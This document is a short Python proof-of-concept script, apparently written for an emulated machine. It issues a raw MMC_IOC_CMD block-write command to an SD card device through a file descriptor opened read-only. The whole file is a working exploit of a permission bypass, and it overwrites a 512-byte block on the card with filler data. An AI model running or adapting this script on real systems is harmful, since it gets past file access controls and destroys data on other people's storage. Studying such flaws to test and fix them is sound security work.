"""On the emulated machine: write to an SD card by a command that is passed to it, on a descriptor that may only read.

python3 card_write.py /dev/mmcblk0; the layout is that of struct mmc_ioc_cmd.
"""

import ctypes
import fcntl
import os
import struct
import sys

PASS_COMMAND = 0xC048B300
WRITE_BLOCK = 24
ANSWERED_WITH_DATA = 0x35


def main() -> None:
    """One block."""
    data = ctypes.create_string_buffer(b"W" * 512, 512)
    command = struct.pack("<iiII16xIIIIIII4xQ", 1, 0, WRITE_BLOCK, 16, ANSWERED_WITH_DATA, 512, 1, 0, 0, 0, 0, ctypes.addressof(data))
    fcntl.ioctl(os.open(sys.argv[1], os.O_RDONLY), PASS_COMMAND, bytearray(command))


if __name__ == "__main__":
    main()
